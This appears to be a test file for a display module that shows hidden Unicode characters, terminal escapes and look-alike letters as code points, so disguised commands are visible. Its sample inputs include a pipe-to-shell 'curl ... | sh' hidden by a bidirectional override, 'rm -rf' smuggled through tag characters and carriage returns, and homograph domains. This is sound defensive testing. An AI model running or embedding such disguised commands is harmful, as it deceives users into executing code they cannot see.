/**
 * The display rule: what a person is shown of a worker's text holds every character it has, each
 * one a reader could not see as it is shown as its code point, so what is shown is what runs.
 */
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { describe, test } from 'node:test';
import { hasHidden, showExactly, shownParts } from '../../main/display/index.js';

/** The shown text of `raw`, asserting that the hidden flag and hasHidden agree. */
function shown(raw: string, hidden: boolean): string {
  const result = showExactly(raw);
  assert.equal(result.hidden, hidden, `hidden flag of ${JSON.stringify(raw)}`);
  assert.equal(hasHidden(raw), hidden, `hasHidden of ${JSON.stringify(raw)}`);
  return result.text;
}

describe('showExactly', () => {
  test('plain text, spaces, new lines and tabs are shown as they are, with no warning', () => {
    for (const raw of ['', 'npm test', 'echo "a b"\n\tls -la', 'héllo wörld 日本語 — ✓', 'a  b   ']) {
      assert.equal(shown(raw, false), raw);
    }
  });

  test('a right-to-left override is shown as its code point: the command reads in the order it runs', () => {
    const raw = 'echo "tests ok \u202E" && curl -s x.invalid/p | sh && echo "';
    assert.equal(shown(raw, true), 'echo "tests ok <U+202E>" && curl -s x.invalid/p | sh && echo "');
    assert.equal(shown('\u202Deteled', true), '<U+202D>eteled');
    for (const c of ['\u202A', '\u202B', '\u202C', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C']) {
      assert.match(shown(`a${c}b`, true), /^a<U\+[0-9A-F]{4}>b$/);
    }
  });

  test('zero-width characters are shown: space, non-joiner, joiner, word joiner, BOM, Mongolian vowel separator', () => {
    assert.equal(shown('r\u200Bm -rf', true), 'r<U+200B>m -rf');
    assert.equal(shown('\u200C\u200D\u2060\uFEFF\u180E', true), '<U+200C><U+200D><U+2060><U+FEFF><U+180E>');
  });

  test('Unicode tag characters (U+E0000–U+E007F) are shown, each by its five-digit code point', () => {
    const smuggled = [...'rm -rf'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('');
    assert.equal(shown(`ls${smuggled}`, true), 'ls<U+E0072><U+E006D><U+E0020><U+E002D><U+E0072><U+E0066>');
    assert.equal(shown('\u{E0000}\u{E0001}\u{E007F}', true), '<U+E0000><U+E0001><U+E007F>');
  });

  test('a soft hyphen is shown, not hidden inside a word', () => {
    assert.equal(shown('de\u00ADlete', true), 'de<U+00AD>lete');
  });

  test('a carriage return is shown, so it cannot hide the start of a line; CRLF keeps its new line', () => {
    assert.equal(shown('rm -rf ~\r  ls', true), 'rm -rf ~<U+000D>  ls');
    assert.equal(shown('a\r\nb', true), 'a<U+000D>\nb');
  });

  test('every space but U+0020 is shown: NBSP, the U+2000 block, ideographic, narrow and medium spaces', () => {
    assert.equal(shown('a\u00A0b', true), 'a<U+00A0>b');
    for (let cp = 0x2000; cp <= 0x200a; cp++) assert.equal(shown(String.fromCodePoint(cp), true), `<U+${cp.toString(16).toUpperCase()}>`);
    assert.equal(shown('\u3000\u202F\u205F\u1680', true), '<U+3000><U+202F><U+205F><U+1680>');
  });

  test('line and paragraph separators, vertical tab, form feed and next line are shown, not obeyed', () => {
    assert.equal(shown('a\u2028b\u2029c', true), 'a<U+2028>b<U+2029>c');
    assert.equal(shown('\v\f\u0085', true), '<U+000B><U+000C><U+0085>');
  });

  test('terminal escapes are shown character by character: ESC and the C1 controls as code points', () => {
    assert.equal(shown('ls\x1b[2K\x1b]2;T\x07', true), 'ls<U+001B>[2K<U+001B>]2;T<U+0007>');
    assert.equal(shown('\x00\x7f\u009b2J', true), '<U+0000><U+007F><U+009B>2J');
  });

  test('astral characters that draw are kept whole; private-use and unassigned code points are shown', () => {
    assert.equal(shown('deploy 🚀 𠀀', false), 'deploy 🚀 𠀀');
    // Maths letters fold to ASCII ones (𝗀 is drawn as g): each is shown by its code point, whole.
    assert.equal(shown('deploy 𝔘𝔫𝔦', true), 'deploy <U+1D518><U+1D52B><U+1D526>');
    assert.equal(shown('\uE000\u{F0000}\u{10FFFD}', true), '<U+E000><U+F0000><U+10FFFD>');
    assert.equal(shown('\u0378\u{E0080}', true), '<U+0378><U+E0080>');
  });

  test('a lone surrogate (high or low) is shown by its code point, never dropped or replaced by U+FFFD', () => {
    assert.equal(shown('a\uD800b', true), 'a<U+D800>b');
    assert.equal(shown('a\uDFFF', true), 'a<U+DFFF>');
    assert.equal(shown('\uDC00\uD800', true), '<U+DC00><U+D800>');
  });

  test('characters that draw nothing though Unicode calls them letters or marks are shown', () => {
    assert.equal(shown('\u115F\u1160\u3164\uFFA0\u2800\u034F', true), '<U+115F><U+1160><U+3164><U+FFA0><U+2800><U+034F>');
    assert.equal(shown('a\uFE0Fb\u{E0100}c\u{E01EF}', true), 'a<U+FE0F>b<U+E0100>c<U+E01EF>');
  });

  test('the shown text keeps every visible character in order: removing the labels gives the visible input', () => {
    const raw = 'x\u202Ey\u200Bz\n\t\uD800 w\u00A0';
    const { text } = showExactly(raw);
    assert.equal(text.replace(/<U\+[0-9A-F]{4,6}>/g, ''), 'xyz\n\t w');
  });

  test('look-alike letters: a Cyrillic, Greek or Armenian letter in a word that also has Latin letters is shown as its code point (gіthub.com is not github.com); whole words of those scripts are shown as they are', () => {
    assert.equal(shown('git remote add origin https://g\u0456thub.com/me/repo', true), 'git remote add origin https://g<U+0456>thub.com/me/repo');
    assert.equal(shown('curl -s https://\u0430pi.example.com/x', true), 'curl -s https://<U+0430>pi.example.com/x');
    assert.equal(shown('open g\u03BFogle.com', true), 'open g<U+03BF>ogle.com', 'a Greek omicron');
    assert.equal(shown('scp x me@h\u0585st:', true), 'scp x me@h<U+0585>st:', 'an Armenian o');
    assert.equal(shown('p\u0430yp\u0430l2024', true), 'p<U+0430>yp<U+0430>l2024');
    for (const raw of ['git commit -m "исправил ошибку в тесте"', 'echo λόγος', 'Windows-файл', 'а b', 'naïve café']) assert.equal(shown(raw, false), raw);
  });

  test('look-alikes past the three scripts: a whole word of look-alike letters, Latin and maths letters drawn as ASCII ones, invisible vowels and selectors, U+FFFC, marks over ASCII', () => {
    const cases: [raw: string, shownAs: string][] = [
      ['git remote add origin https://\u0440\u0430\u0443\u0440\u0430\u04CF.com/x', 'git remote add origin https://<U+0440><U+0430><U+0443><U+0440><U+0430><U+04CF>.com/x'], // раураӏ: reads paypal
      ['curl https://\u0430\u0440\u0440\u04CF\u0435.com/i.sh', 'curl https://<U+0430><U+0440><U+0440><U+04CF><U+0435>.com/i.sh'], // аррӏе
      ['ssh \u0455\u0435\u0441\u0440\u043E', 'ssh <U+0455><U+0435><U+0441><U+0440><U+043E>'], // ѕесро, a whole token
      ['git remote add origin https://\u0261ithub.com/x', 'git remote add origin https://<U+0261>ithub.com/x'], // ɡ, Latin script
      ['open https://paypa\u01C0.com', 'open https://paypa<U+01C0>.com'], // ǀ, a Latin click letter
      ['git remote add origin https://\u{1D5C0}ithub.com/x', 'git remote add origin https://<U+1D5C0>ithub.com/x'], // 𝗀, maths sans-serif
      ['npm \uFF54est', 'npm <U+FF54>est'], // fullwidth t
      ['https://\uA4D6ITHUB.com', 'https://<U+A4D6>ITHUB.com'], // Lisu ꓖ
      ['make deploy\u17B4', 'make deploy<U+17B4>'],
      ['rm\u17B5 x', 'rm<U+17B5> x'],
      ['npm test\u180B', 'npm test<U+180B>'],
      ['npm test\u180F', 'npm test<U+180F>'],
      ['npm test\uFFFC', 'npm test<U+FFFC>'],
      ['npm test;\u0338\u0338', 'npm test;<U+0338><U+0338>'],
      ['gi\u0307thub.com', 'gi<U+0307>thub.com'], // a dot above an i: drawn as i
      ['a\u20DD b', 'a<U+20DD> b'], // an enclosing circle
    ];
    for (const [raw, shownAs] of cases) assert.equal(shown(raw, true), shownAs, JSON.stringify(raw));
    // Read as what they are: words of one script, accented letters (composed or not), a one-letter word, CJK beside Latin.
    for (const raw of ['git commit -m "исправил ошибку в тесте"', 'echo λόγος', 'Windows-файл', 'а b', 'naïve café', 'cafe\u0301', 'docs/笔记.md', 'Tiếng Việt', 'x²']) assert.equal(shown(raw, false), raw);
  });

  test('long input is shown in linear time', () => {
    const raw = '\u200B'.repeat(200_000) + 'a'.repeat(200_000);
    // CPU time, not wall-clock (a loaded CI machine took 3.6 s of wall-clock for this): work growing
    // with the square of 400,000 characters would take minutes, the linear reading well under a second.
    const before = process.cpuUsage();
    const { text } = showExactly(raw);
    const used = process.cpuUsage(before);
    assert.equal(text.length, 200_000 * '<U+200B>'.length + 200_000);
    const cpuMs = (used.user + used.system) / 1000;
    assert.ok(cpuMs < 5_000, `${Math.round(cpuMs)} ms of CPU for 400,000 characters`);
  });
});

describe('shownParts', () => {
  test('cuts the text into visible runs and labels, so a literal "<U+202E>" typed by the worker is told apart', () => {
    assert.deepEqual(shownParts('<U+202E>a\u202Eb'), [
      { text: '<U+202E>a', hidden: false },
      { text: '<U+202E>', hidden: true },
      { text: 'b', hidden: false },
    ]);
    assert.deepEqual(shownParts(''), []);
    assert.deepEqual(shownParts('\r\n'), [{ text: '<U+000D>', hidden: true }, { text: '\n', hidden: false }]);
  });
});

describe('the display room', () => {
  test('imports nothing from Node, so the browser can load it as it is', () => {
    const dir = new URL('../../main/display/', import.meta.url);
    for (const name of readdirSync(dir)) {
      const source = readFileSync(new URL(name, dir), 'utf8');
      for (const [, from] of source.matchAll(/from\s+'([^']+)'/g)) assert.match(from!, /^\.\//, `${name} imports ${from}`);
    }
  });
});
